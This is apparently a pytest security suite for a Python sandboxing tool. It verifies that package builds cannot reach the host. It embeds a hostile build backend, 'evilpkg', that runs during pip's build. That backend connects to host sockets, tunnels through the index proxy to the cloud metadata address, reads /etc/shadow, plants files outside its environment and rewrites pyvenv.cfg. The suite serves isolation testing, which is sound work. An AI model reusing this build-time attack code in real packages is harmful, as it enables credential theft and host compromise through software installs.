"""`packages:` and `python:` attacks: nothing a recipe names is executed on the host.

The evil package is a local project whose build backend (in-tree, no setuptools needed: it builds offline)
attacks while pip builds it: it connects to a TCP server on the host's 127.0.0.1, to a host unix socket,
through the build's own index proxy to that TCP server and to the cloud metadata address, reads
/etc/shadow and writes files outside its environment. It records what it saw in a module of the wheel it
then makes, so the test reads the attack's own report from the environment. The control builds the same
package on the host (as the `process` backend does, which isolates nothing): the same attacks succeed.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from sandrun.backends.local import LocalBackend
from sandrun.backends.local_host import python_roots
from sandrun.environments import EnvironmentBuildError, EnvironmentSpec, ensure_environment
from tests.security.sandboxes import IS_ROOT, local_unavailable, sandrun_cli

BACKEND = '''
import base64, hashlib, json, os, socket, zipfile

TARGETS = json.loads({targets!r})


def attempt(action):
    try:
        return "ok: " + str(action())
    except Exception as exc:
        return f"refused: {{type(exc).__name__}}: {{exc}}"


def tcp(host, port, payload):
    with socket.create_connection((host, port), timeout=5) as conn:
        conn.sendall(payload)
    return "sent"


def unix(path, payload):
    with socket.socket(socket.AF_UNIX) as conn:
        conn.settimeout(5)
        conn.connect(path)
        conn.sendall(payload)
    return "sent"


def write(path):
    with open(path, "w") as file:
        file.write("planted by a package build\\n")
    return "written"


def ancestors():
    """The command lines of this build's own ancestors (pip and what started it), nearest first: never
    another build's, which may run at the same time on the same machine."""
    pid = os.getppid()
    while pid > 1:
        try:
            yield open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
            stat = open(f"/proc/{{pid}}/stat").read()
        except OSError:
            return
        pid = int(stat.rsplit(")", 1)[1].split()[1])


def through_proxy(target):
    """CONNECT through the index proxy the build was given (found in pip's command line)."""
    for args in ancestors():
        if b"--proxy" in args:
            port = int(args[args.index(b"--proxy") + 1].rsplit(b":", 1)[1])
            with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
                conn.sendall(f"CONNECT {{target}} HTTP/1.1\\r\\n\\r\\n".encode())
                return conn.recv(200).decode(errors="replace").splitlines()[0]
    return "no proxy in sight"


def attack():
    return {{
        "tcp": attempt(lambda: tcp("127.0.0.1", TARGETS["port"], b"evil-tcp")),
        "unix": attempt(lambda: unix(TARGETS["unix"], b"evil-unix")),
        "proxy_loopback": attempt(lambda: through_proxy(f"127.0.0.1:{{TARGETS['port']}}")),
        "proxy_metadata": attempt(lambda: through_proxy("169.254.169.254:80")),
        "shadow": attempt(lambda: len(open("/etc/shadow", "rb").read())),
        "outside": [attempt(lambda p=p: write(p)) for p in TARGETS["outside"]],
    }}


def get_requires_for_build_wheel(config_settings=None):
    return []


def tamper(home):
    """Point the environment being built at another base (found from pip's --python argument)."""
    for args in ancestors():
        if b"--python" in args:
            env = os.path.dirname(os.path.dirname(args[args.index(b"--python") + 1].decode()))
            with open(os.path.join(env, "pyvenv.cfg"), "w") as cfg:
                cfg.write(f"home = {{home}}\\n")
            return


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if TARGETS.get("fail"):
        raise SystemExit("evilpkg: this build fails on purpose")
    if TARGETS.get("tamper"):
        tamper(TARGETS["tamper"])
    files = {{
        "evil_report.py": f"REPORT = {{attack() if 'port' in TARGETS else {{}}!r}}\\n",
        "evilpkg-0.1.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evilpkg\\nVersion: 0.1\\n",
        "evilpkg-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    name = "evilpkg-0.1-py3-none-any.whl"
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for path, text in files.items():
            data = text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            archive.writestr(path, data)
            record.append(f"{{path}},sha256={{digest}},{{len(data)}}")
        record.append("evilpkg-0.1.dist-info/RECORD,,")
        archive.writestr("evilpkg-0.1.dist-info/RECORD", "\\n".join(record) + "\\n")
    return name
'''
PYPROJECT = """
[project]
name = "evilpkg"
version = "0.1"

[build-system]
requires = []
build-backend = "evil_backend"
backend-path = ["."]
"""


def make_evil_package(folder: Path, targets: dict[str, object]) -> Path:
    """A project directory whose build backend attacks `targets` and reports what happened."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pyproject.toml").write_text(PYPROJECT)
    (folder / "evil_backend.py").write_text(BACKEND.format(targets=json.dumps(targets)))
    for path in (folder, *folder.iterdir()):  # readable by the sandbox's uid when the tests run as root
        path.chmod(0o755 if path.is_dir() else 0o644)
    return folder


@dataclass
class Listeners:
    """A TCP server on the host's 127.0.0.1 and a host unix socket server, recording what they got."""

    port: int
    unix: Path
    received: list[bytes]


@pytest.fixture
def listeners(tmp_path: Path) -> Iterator[Listeners]:
    tcp = socket.create_server(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX)
    path = tmp_path / "host.sock"
    unix.bind(str(path))
    path.chmod(0o777)
    unix.listen(8)
    received: list[bytes] = []

    def serve(server: socket.socket) -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                received.append(conn.recv(100))

    for server in (tcp, unix):
        threading.Thread(target=serve, args=(server,), daemon=True).start()
    yield Listeners(tcp.getsockname()[1], path, received)
    tcp.close()
    unix.close()


@pytest.fixture
def offline(monkeypatch: pytest.MonkeyPatch) -> None:
    """The evil package needs nothing from an index."""
    monkeypatch.setenv("PIP_NO_INDEX", "1")


def outside_paths(tmp_path: Path, cache: Path) -> list[str]:
    """Where the build tries to write: a world-writable host directory, and the cache beside its env."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    return [str(shared / "planted"), str(cache / "envs" / "planted")]


def build(tmp_path: Path, listeners: Listeners, sandbox: LocalBackend | None) -> dict[str, object]:
    """Build the evil package (in `sandbox`, or on the host) and return the attack's own report."""
    cache = tmp_path / "cache"
    targets = {"port": listeners.port, "unix": str(listeners.unix), "outside": outside_paths(tmp_path, cache)}
    package = make_evil_package(tmp_path / "evilpkg", targets)
    python = ensure_environment(EnvironmentSpec((str(package),), sys.executable), cache, sandbox=sandbox)
    report_file = next(Path(python).parent.parent.glob("lib/python*/site-packages/evil_report.py"))
    scope: dict[str, object] = {}
    exec(report_file.read_text(), scope)
    report = scope["REPORT"]
    assert isinstance(report, dict)
    return report


def test_a_package_build_in_the_sandbox_reaches_nothing_on_the_host(
    tmp_path: Path, listeners: Listeners, offline: None
) -> None:
    if reason := local_unavailable():
        pytest.skip(f"the local backend is unavailable: {reason}")
    report = build(tmp_path, listeners, LocalBackend())
    assert str(report["tcp"]).startswith("refused: ConnectionRefusedError"), report  # its own loopback
    assert str(report["unix"]).startswith("refused: FileNotFoundError"), report
    assert "403 Forbidden" in str(report["proxy_loopback"]), report  # the index proxy exists, and refuses
    assert "403 Forbidden" in str(report["proxy_metadata"]), report
    assert str(report["shadow"]).startswith("refused: FileNotFoundError"), report
    assert listeners.received == []
    for path in outside_paths_of(tmp_path):
        assert not path.exists(), path


def outside_paths_of(tmp_path: Path) -> list[Path]:
    return [tmp_path / "shared" / "planted", tmp_path / "cache" / "envs" / "planted"]


def test_the_control_the_same_build_on_the_host_reaches_everything(
    tmp_path: Path, listeners: Listeners, offline: None
) -> None:
    report = build(tmp_path, listeners, None)
    assert report["tcp"] == "ok: sent" and report["unix"] == "ok: sent", report
    assert sorted(listeners.received) == [b"evil-tcp", b"evil-unix"]
    if IS_ROOT:  # as a user, /etc/shadow is unreadable on the host too
        assert report["shadow"] == f"ok: {Path('/etc/shadow').stat().st_size}", report
    for path in outside_paths_of(tmp_path):
        assert path.read_text() == "planted by a package build\n", path


def test_a_failed_build_is_a_setup_error_naming_the_package(tmp_path: Path) -> None:
    make_evil_package(tmp_path / "evilpkg", {"fail": True})
    recipe = tmp_path / "recipe.yaml"
    recipe.write_text("packages: [./evilpkg]\ncells:\n  - print(1)\n")
    env = {**os.environ, "SANDRUN_CACHE_DIR": str(tmp_path / "cache"), "PIP_NO_INDEX": "1"}
    done = sandrun_cli(recipe, cwd=tmp_path, env=env)
    assert done.returncode == 3, done.stderr
    assert done.transcript is not None
    reason = done.transcript["reason"]
    assert "setting up the recipe's packages failed" in reason and "evilpkg" in reason, reason
    assert "this build fails on purpose" in reason, reason


def test_a_bad_local_package_path_is_not_given_to_the_build(tmp_path: Path) -> None:
    if local_unavailable():
        pytest.skip("the local backend is unavailable")
    secret = tmp_path / "id_rsa"
    secret.write_text("not a package\n")
    spec = EnvironmentSpec((str(secret),), sys.executable)
    with pytest.raises(EnvironmentBuildError, match="neither a Python project"):
        ensure_environment(spec, tmp_path / "cache", sandbox=LocalBackend())


TINY_SETUP = """
from setuptools import setup
setup(name="tinypkg", version="1.0", py_modules=["tinypkg"])
"""


def test_a_real_sdist_with_setuptools_builds_in_the_sandbox_and_imports_in_a_cell(tmp_path: Path) -> None:
    """setuptools comes from wherever the user's pip configuration finds it (an index, find-links)."""
    project = tmp_path / "tinypkg"
    project.mkdir()
    (project / "setup.py").write_text(TINY_SETUP)
    (project / "tinypkg.py").write_text("ANSWER = 42\n")
    recipe = tmp_path / "recipe.yaml"
    recipe.write_text(
        "packages: [./tinypkg]\ncells:\n  - code: import tinypkg; print(tinypkg.ANSWER)\n"
        "    expect: {stdout: '42'}\n"
    )
    env = {**os.environ, "SANDRUN_CACHE_DIR": str(tmp_path / "cache")}
    done = sandrun_cli(recipe, cwd=tmp_path, env=env)
    assert done.returncode == 0, (done.stderr, done.transcript and done.transcript.get("reason"))
    assert not (project / "build").exists() and not list(project.glob("*.egg-info"))  # built from a copy


def test_a_build_that_repoints_its_environment_is_refused(tmp_path: Path, offline: None) -> None:
    """The build rewrites its venv's pyvenv.cfg so that later cells would bind another directory (one that
    looks like a Python installation). Control: built on the host, nothing checks, and it would be bound."""
    secret = tmp_path / "secret"
    (secret / "lib" / "python3.99").mkdir(parents=True)
    (secret / "lib" / "python3.99" / "os.py").write_text("")
    (secret / "bin").mkdir()
    package = make_evil_package(tmp_path / "evilpkg", {"tamper": str(secret / "bin")})
    spec = EnvironmentSpec((str(package),), sys.executable)
    python = ensure_environment(spec, tmp_path / "host-cache", sandbox=None)
    assert secret in python_roots(python)  # the control: a cell sandbox would see it
    if reason := local_unavailable():
        pytest.skip(f"the local backend is unavailable: {reason}")
    with pytest.raises(EnvironmentBuildError, match="left an interpreter that is not a venv"):
        ensure_environment(spec, tmp_path / "cache", sandbox=LocalBackend())
    assert [p.name for p in (tmp_path / "cache" / "envs").iterdir() if not p.name.endswith(".lock")] == []


def test_an_index_on_loopback_that_the_users_configuration_names_is_reached(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The user's pip configuration is honoured inside: an http index on this machine's 127.0.0.1, named
    by PIP_INDEX_URL and PIP_TRUSTED_HOST, serves the build through the proxy (which refuses loopback for
    any host the configuration does not name: see the evil build above)."""
    import http.server

    from tests.factories import make_wheel

    (tmp_path / "files").mkdir()
    wheel = make_wheel(tmp_path / "files")
    (tmp_path / "simple" / "sandrun-demo").mkdir(parents=True)
    (tmp_path / "simple" / "sandrun-demo" / "index.html").write_text(
        f'<html><body><a href="/files/{wheel.name}">{wheel.name}</a></body></html>\n'
    )
    served: list[str] = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object, **kwargs: object) -> None:
            super().__init__(*args, directory=str(tmp_path), **kwargs)  # type: ignore[arg-type]

        def log_message(self, format: str, *args: object) -> None:
            served.append(self.path)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    monkeypatch.delenv("PIP_NO_INDEX", raising=False)
    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{port}/simple")
    monkeypatch.setenv("PIP_TRUSTED_HOST", f"127.0.0.1:{port}")
    try:
        if reason := local_unavailable():
            pytest.skip(f"the local backend is unavailable: {reason}")
        spec = EnvironmentSpec(("sandrun-demo",), sys.executable)
        python = ensure_environment(spec, tmp_path / "cache", sandbox=LocalBackend())
    finally:
        server.shutdown()
        server.server_close()
    assert "/simple/sandrun-demo/" in served and f"/files/{wheel.name}" in served, served
    assert list(Path(python).parent.parent.glob("lib/python*/site-packages/sandrun_demo/__init__.py"))
